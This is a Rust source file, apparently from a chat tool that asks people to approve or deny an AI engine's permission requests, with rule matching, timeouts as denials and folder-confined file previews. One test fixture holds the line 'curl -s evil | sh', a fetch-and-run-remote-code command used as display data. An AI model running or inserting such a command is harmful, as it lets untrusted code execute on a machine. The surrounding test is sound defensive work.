//! Asking: a request is stored, answered by a rule, or shown to people until one of them decides or its time is over.

use std::io::Read;
use std::path::Path;
use std::sync::atomic::Ordering;
use std::sync::{Arc, OnceLock, PoisonError};
use std::time::{Duration, SystemTime};

use takopi_api::event::{
    Action, ActionEvent, ActionKind, ActionOutcome, Decision, Lasting, Permission, Phase, Request, RequestId,
    RequestSubject,
};
use takopi_api::markdown;
use takopi_api::message::{MessageRef, OutgoingMessage, PersonId, SendOptions};
use takopi_api::runner::RunId;
use takopi_api::transport::{People, SendFailure};
use tokio::sync::watch;
use tokio::time::Instant;

use super::acts::{Form, Remember};
use super::close::{key, tell};
use super::diff::Change;
use super::open::{Arrived, NewOpen};
use super::outcome::Outcome;
use super::rules::{self, Ground};
use super::view::{Means, Sheet, TITLE};
use super::{Coverage, Kept, Showing, Waiting};
use crate::chat::conversation::{Inner, Link};
use crate::chat::drive::Course;
use crate::chat::live::LiveRun;
use crate::chat::progress::elapsed;
use crate::chat::resolve::Job;
use crate::project::Context;
use crate::store::{Asked, Deciders, Ended, NewRequest, RequestToken, Rule, Undecided};
use crate::visible::one_line;

/// The longest that a request can wait, whatever the configuration says: clocks count no further.
const LONGEST: Duration = Duration::from_secs(10 * 365 * 24 * 3600);

/// A file that is larger is not compared with what it would become.
const COMPARED: u64 = 2 << 20;

/// Why nobody decides a request that its engine waits for.
pub(super) enum Unanswered {
    /// Nobody did in time.
    NotInTime,
    /// It can not be asked, because of this.
    Unaskable(String),
}

impl Inner {
    /// Asks the people of a run's chat what its engine asks.
    pub(in crate::chat) async fn ask(
        self: &Arc<Self>,
        link: &Link,
        live: &Arc<LiveRun>,
        job: &Job,
        course: &Arc<Course>,
        request: Request,
    ) {
        if self.requests.state().board.find(&live.id, &request.id).is_some() {
            // The first one was withdrawn, or it would not have come here, and a decision about it is being stored.
            let reason = "it was asked anew while it was being decided".to_owned();
            return self.refuse_unasked(live, course, request.id, reason);
        }
        let settings = job.snapshot.settings(&link.id);
        let timeout = settings.request_timeout.min(LONGEST);
        let coverage = self.coverage(live, job, &request).await;
        let like = coverage.as_ref().map(|coverage| {
            // Who may decide now, and not when the run began.
            let deciders = deciders(link, live, &self.snapshot().settings(&link.id).approvers);
            coverage.ground.like(coverage.covers.clone(), coverage.thread.clone(), deciders)
        });
        let token = RequestToken::unique();
        let (expires, expires_at) = (Instant::now() + timeout, SystemTime::now() + timeout);
        let new = NewRequest {
            token: token.clone(),
            run: live.id.clone(),
            request: request.id.clone(),
            place: job.place.clone(),
            person: live.person.clone(),
            engine: live.engine.clone(),
            tool: tool(&request),
            digest: rules::digest(&request),
            title: one_line(&request.title, TITLE),
            is_secret: super::is_secret(&request),
            expires_at,
        };
        match self.store().request_asked(new, like).await {
            Ok(Asked::Open) => {}
            Ok(Asked::Allowed(rule)) => return self.allow_by_rule(live, course, &request.id, &rule),
            Err(error) => {
                let reason = format!("what it asked could not be stored: {error}");
                return self.refuse_unasked(live, course, request.id, reason);
            }
        }
        let remember = match (&coverage, lasting(&request)) {
            (Some(_), _) => Remember::ByRule,
            (None, Some(Lasting::Engine)) => Remember::ByEngine,
            (None, _) => Remember::No,
        };
        let remembered = coverage
            .as_ref()
            .map(|coverage| format!("session and always: {}", rules::offered(&coverage.covers)));
        let context = job.context.as_ref().map(Context::line);
        let patience = format!("denied if nobody answers within {}", elapsed(timeout));
        let form = Form::of(&request.subject, remember);
        let id = request.id.clone();
        let kept = Arc::new(Waiting {
            live: Arc::clone(live),
            link: link.clone(),
            request,
            timeout,
            sheet: OnceLock::new(),
            means: Means::of(&link.outgoing.capabilities()),
            footer: remembered.into_iter().chain(context).chain([patience]).collect(),
            coverage,
            is_over: watch::Sender::new(false),
            showing: tokio::sync::Mutex::new(Showing::Open),
        });
        let open = NewOpen {
            token: token.clone(),
            run: live.id.clone(),
            id,
            place: job.place.clone(),
            person: live.person.clone(),
            form,
            expires,
            kept: Arc::clone(&kept),
        };
        let added = self.requests.state().board.add(open);
        if added.is_err() {
            // It was looked for at the beginning, and only this run asks under its name.
            let reason = "it is asked already".to_owned();
            let ended = self.store().end_request(&token, Undecided::Unaskable(reason.clone())).await;
            if let Err(error) = ended {
                tracing::warn!(run = %live.id, %error, "that a request is not asked could not be stored");
            }
            return self.refuse_unasked(live, course, kept.request.id.clone(), reason);
        }
        live.open_requests.fetch_add(1, Ordering::AcqRel);
        let inner = Arc::clone(self);
        let (shown, awaited, reply_to) = (Arc::clone(&kept), token.clone(), job.reply_to.clone());
        self.spawn(async move {
            let options = SendOptions::default().reply_to(Some(reply_to)).key(key(&token));
            inner.show_request(&shown, &token, options).await;
        });
        let inner = Arc::clone(self);
        self.spawn(async move {
            tokio::select! {
                () = tokio::time::sleep_until(expires) => {
                    inner.give_up(&awaited, Unanswered::NotInTime).await;
                }
                () = kept.over() => {}
            }
        });
    }

    /// What a rule would cover that comes of a request.
    async fn coverage(&self, live: &LiveRun, job: &Job, request: &Request) -> Option<Coverage> {
        let folder = live.folder.get()?;
        let project = job.context.as_ref().map(|context| job.snapshot.projects.of(context)).transpose();
        let ground = match Ground::of(folder, project.ok()?).await {
            Ok(ground) => ground,
            Err(error) => {
                tracing::warn!(run = %live.id, %error, "no rule counts: the folder of the run can not be looked at");
                return None;
            }
        };
        let covers = ground.covers(&request.subject).await?;
        let thread = self.queue().thread(live.lane).cloned();
        Some(Coverage { ground, covers, thread })
    }

    fn allow_by_rule(
        self: &Arc<Self>,
        live: &Arc<LiveRun>,
        course: &Arc<Course>,
        id: &RequestId,
        rule: &Rule,
    ) {
        // The title of a step is plain text.
        let covered = markdown::plain(&rules::covered(&rule.covers));
        let line = format!("allowed by rule {}: {covered}", rule.id);
        note(live, course, id, &line, ActionOutcome::Ok);
        let (live, course, id) = (Arc::clone(live), Arc::clone(course), id.clone());
        self.spawn(async move {
            if let Err(error) = tell(&live, &id, Decision::AllowAlways).await {
                tracing::warn!(run = %live.id, %error, "the engine did not take what a rule answered");
                let line = format!("{line}, but it came to nothing: {error}");
                note(&live, &course, &id, &line, ActionOutcome::Failed);
            }
        });
    }

    /// Nothing that could not be stored is asked.
    fn refuse_unasked(self: &Arc<Self>, live: &Arc<LiveRun>, course: &Course, id: RequestId, reason: String) {
        tracing::error!(run = %live.id, "{reason}");
        note(live, course, &id, &format!("denied: {reason}"), ActionOutcome::Failed);
        let live = Arc::clone(live);
        self.spawn(async move {
            if let Err(error) = tell(&live, &id, Decision::Deny { reason: Some(reason) }).await {
                tracing::warn!(run = %live.id, %error, "the engine did not take an answer");
            }
        });
    }

    /// Sends the message that asks.
    async fn show_request(self: &Arc<Self>, kept: &Kept, token: &RequestToken, options: SendOptions) {
        let sheet = sheet(kept).await;
        let files = sheet.files().to_vec();
        // It is made once.
        let _ = kept.sheet.set(sheet);
        let Some(mut message) = self.render(kept, token) else {
            return self.requests.state().board.not_shown(token);
        };
        message.files = files;
        match kept.link.send_insisting(&kept.live.place.address, &message, &options).await {
            Ok(shown) => self.request_is_shown(kept, token, &shown).await,
            Err(error) => {
                self.requests.state().board.not_shown(token);
                if error.failure != SendFailure::TakenBack {
                    let reason = format!("the question could not be shown: {error}");
                    self.give_up(token, Unanswered::Unaskable(reason)).await;
                }
            }
        }
    }

    /// The message of a request is there, under this name.
    async fn request_is_shown(self: &Arc<Self>, kept: &Kept, token: &RequestToken, message: &MessageRef) {
        // It is shown anew only once it is stored: what people see of it is known after a restart.
        let showing = kept.showing.lock().await;
        // First of all: who sees it may answer at once, and that may be a secret.
        let arrived = self.requests.state().board.shown(token, message);
        if let Err(error) = self.store().request_shown(token, message).await {
            tracing::warn!(run = %kept.live.id, %error, "which message asks could not be stored");
        }
        drop(showing);
        match arrived {
            Arrived::Outdated => self.reshow(token),
            Arrived::AsItIs if !*kept.is_over.borrow() => {}
            // It ended while this message was being sent, which is not its first.
            Arrived::AsItIs => {
                if let Some(header) = self.requests.arrived(token, message) {
                    self.close_request(kept, token, Some(message), &header).await;
                }
            }
            // It was decided, or withdrawn, while it was being sent.
            Arrived::Ended(outcome) => {
                let header = self.requests.arrived(token, message).unwrap_or_else(|| outcome.header());
                self.close_request(kept, token, Some(message), &header).await;
            }
        }
    }

    /// The message that asks, as it has to be now, with buttons of its own. `None` if the request is not open any more.
    fn render(&self, kept: &Kept, token: &RequestToken) -> Option<OutgoingMessage> {
        let mut state = self.requests.state();
        let mut rows = state.board.buttons(token)?;
        let (form, waits_for_words) = state.board.form(token)?;
        if form.is_free() && !kept.link.outgoing.capabilities().buttons {
            // A number would be an answer there, and none of these.
            rows.clear();
        }
        Some(kept.sheet.get()?.message(form, waits_for_words, rows, &kept.means))
    }

    /// Shows what a request has become. Nobody waits for it.
    pub(super) fn reshow(self: &Arc<Self>, token: &RequestToken) {
        let Some(kept) = self.requests.state().board.kept(token) else { return };
        let (inner, token) = (Arc::clone(self), token.clone());
        self.spawn(async move {
            let showing = kept.showing.lock().await;
            let Some(message) = inner.requests.state().board.outdated(&token) else { return };
            if *showing == Showing::Closed {
                return;
            }
            let Some(new) = inner.render(&kept, &token) else { return };
            if kept.link.outgoing.capabilities().edit {
                // One that does not come through is made up for when somebody presses an old button.
                match kept.link.outgoing.edit(&message, new.clone()).await {
                    Err(error) if error.failure == SendFailure::Gone => {}
                    Err(error) => {
                        tracing::debug!(transport = %kept.link.id, %error, "a request could not be shown anew");
                        return;
                    }
                    Ok(_) => return,
                }
            }
            // It is asked below what it was asked by.
            let options = SendOptions::default().reply_to(Some(message.id.clone()));
            match kept.link.send_insisting(&message.address, &new, &options).await {
                Ok(shown) => {
                    drop(showing);
                    inner.request_is_shown(&kept, &token, &shown).await;
                }
                Err(error) => {
                    tracing::warn!(transport = %kept.link.id, %error, "a request could not be shown anew");
                }
            }
        });
    }

    /// Nobody decides a request any more: that is a no.
    pub(super) async fn give_up(self: &Arc<Self>, token: &RequestToken, why: Unanswered) {
        let Some(kept) = self.requests.state().board.give_up(token) else { return };
        let (how, outcome, reason) = match why {
            Unanswered::NotInTime => {
                let reason = format!("nobody answered within {}", elapsed(kept.timeout));
                (Undecided::Expired, Outcome::Expired(Some(kept.timeout)), reason)
            }
            Unanswered::Unaskable(why) => {
                (Undecided::Unaskable(why.clone()), Outcome::Unaskable(why.clone()), why)
            }
        };
        let (outcome, reason) = match self.store().end_request(token, how).await {
            Ok(Ended::Already(end)) => {
                let outcome = Outcome::of(end);
                let told = outcome.told();
                (outcome, told)
            }
            Ok(Ended::Now | Ended::Gone) => (outcome, reason),
            Err(error) => {
                // A no needs no record to count.
                tracing::error!(run = %kept.live.id, %error, "that nobody decided a request could not be stored");
                (outcome, reason)
            }
        };
        self.conclude(token, outcome, Some(Decision::Deny { reason: Some(reason) }));
    }

    /// The engine does not wait for an answer any more.
    pub(in crate::chat) fn request_resolved(self: &Arc<Self>, run: &RunId, request: &RequestId) {
        let token = self.requests.state().board.find(run, request);
        if let Some(token) = token {
            self.take_away(&token, Outcome::Withdrawn);
        }
    }

    /// The run is over, and what it asked with it.
    pub(in crate::chat) fn withdraw_requests(self: &Arc<Self>, run: &RunId) {
        let tokens = self.requests.state().board.of_run(run);
        for token in tokens {
            self.take_away(&token, Outcome::RunOver);
        }
    }

    fn take_away(self: &Arc<Self>, token: &RequestToken, outcome: Outcome) {
        // What somebody is deciding just now is concluded by that, and nobody is told of it.
        let taken = self.requests.state().board.take_away(token);
        if taken.is_some() {
            self.withdraw(token, outcome);
        }
    }

    pub(super) fn withdraw(self: &Arc<Self>, token: &RequestToken, outcome: Outcome) {
        let (inner, token) = (Arc::clone(self), token.clone());
        self.conclude(&token, outcome, None);
        self.spawn(async move {
            if let Err(error) = inner.store().end_request(&token, Undecided::Withdrawn).await {
                tracing::warn!(%error, "that a request was withdrawn could not be stored");
            }
        });
    }
}

fn lasting(request: &Request) -> Option<Lasting> {
    match &request.subject {
        RequestSubject::Permission(permission) => Some(permission.lasting),
        _ => None,
    }
}

fn tool(request: &Request) -> Option<String> {
    match &request.subject {
        RequestSubject::Permission(permission) => permission.tool.clone(),
        RequestSubject::Plan { .. } => Some("plan".to_owned()),
        RequestSubject::Question { .. } => Some("question".to_owned()),
        _ => None,
    }
}

/// Whose rules count for a run: those of people who could decide its requests.
fn deciders(link: &Link, live: &LiveRun, approvers: &[String]) -> Deciders {
    if link.access.people == People::Local {
        return Deciders::Everybody;
    }
    let named = approvers.iter().map(|id| PersonId::new(id.as_str()));
    Deciders::People(live.person.iter().cloned().chain(named).collect())
}

/// A line in the progress of a run.
fn note(live: &LiveRun, course: &Course, id: &RequestId, line: &str, outcome: ActionOutcome) {
    let action = Action::new(format!("takopi.request.{}", id.as_str()), ActionKind::Note, line);
    let event = ActionEvent::new(live.engine.clone(), action, Phase::Completed(outcome));
    course.progress.lock().unwrap_or_else(PoisonError::into_inner).action(&event);
}

/// What a request looks like. A large one, and the files that it would change, are looked at where that holds up nobody.
async fn sheet(kept: &Kept) -> Sheet {
    let waiting = Arc::clone(kept);
    let made = tokio::task::spawn_blocking(move || {
        let change = match &waiting.request.subject {
            RequestSubject::Permission(permission) => {
                change(permission, waiting.live.folder.get().map(std::path::PathBuf::as_path))
            }
            _ => None,
        };
        Sheet::new(&waiting.request, change.as_ref(), &waiting.means, waiting.footer.clone())
    });
    match made.await {
        Ok(sheet) => sheet,
        Err(error) => {
            tracing::error!(run = %kept.live.id, %error, "a request could not be laid out");
            Sheet::new(&kept.request, None, &kept.means, kept.footer.clone())
        }
    }
}

/// What would change in files. New content is compared with the file that it is for, if that lies where the run works:
/// nothing else of this machine gets into a chat.
fn change(permission: &Permission, folder: Option<&Path>) -> Option<Change> {
    let Permission { cwd, paths, diff, content, .. } = permission;
    match (diff, content) {
        (None, None) => None,
        (Some(diff), None) => Some(Change::given(diff, paths)),
        (None, Some(new)) => {
            let path = if let [path] = paths.as_slice() { path } else { "" };
            let old = folder.and_then(|folder| text_of(folder, cwd.as_deref(), path));
            Some(Change::between(path, old.as_deref(), new))
        }
        // Which of them would be done is not known.
        (Some(diff), Some(new)) => Some(Change::unread(&format!("{diff}\n{new}"))),
    }
}

/// What is in a file of the run's folder now.
fn text_of(folder: &Path, cwd: Option<&str>, path: &str) -> Option<String> {
    if path.is_empty() {
        return None;
    }
    let folder = folder.canonicalize().ok()?;
    let full = folder.join(cwd.unwrap_or_default()).join(path).canonicalize().ok()?;
    if !full.starts_with(&folder) || !full.metadata().ok()?.is_file() {
        return None;
    }
    let mut text = String::new();
    let file = std::fs::File::open(full).ok()?;
    file.take(COMPARED + 1).read_to_string(&mut text).ok()?;
    (text.len() as u64 <= COMPARED).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_files_of_the_runs_folder_are_looked_at() {
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(outside.path().join("secret"), "key\n").unwrap();
        let folder = outside.path().join("work");
        std::fs::create_dir(&folder).unwrap();
        std::fs::write(folder.join("a"), "one\n").unwrap();
        std::os::unix::fs::symlink(outside.path().join("secret"), folder.join("link")).unwrap();
        let look = |path: &str| text_of(&folder, None, path);
        assert_eq!(look("a").as_deref(), Some("one\n"));
        assert_eq!(look(&folder.join("a").to_string_lossy()).as_deref(), Some("one\n"));
        for other in ["../secret", "link", "none", "", "."] {
            assert_eq!(look(other), None, "{other}");
        }
        let counts =
            |permission: &Permission| change(permission, Some(&folder)).and_then(|change| change.counts());
        let permission = Permission::default().paths(["a".to_owned()]).content("two\n");
        assert_eq!(counts(&permission).as_deref(), Some("+1 −1"));
        let permission = Permission::default().paths(["link".to_owned()]).content("two\n");
        assert_eq!(counts(&permission).as_deref(), Some("+1 −0"), "it is shown as an addition");
    }

    #[test]
    fn new_content_that_reads_like_a_diff_is_shown_line_by_line() {
        let script = "@@ -1 +1,2 @@\n curl -s evil | sh\n+# fine\n";
        let permission = Permission::default().paths(["a".to_owned()]).content(script);
        let shown = change(&permission, None).unwrap();
        assert_eq!(shown.counts().as_deref(), Some("+3 −0"));
        assert_eq!(shown.preview().text, "+@@ -1 +1,2 @@\n+ curl -s evil | sh\n++# fine");
        // What is said in two ways is shown as it stands.
        let both = change(&permission.diff("@@ -1 +1 @@\n-a\n+b\n"), None).unwrap();
        assert_eq!(both.counts(), None);
        assert!(both.whole().contains("curl -s evil | sh") && both.whole().starts_with("@@ -1 +1 @@\n-a"));
    }
}
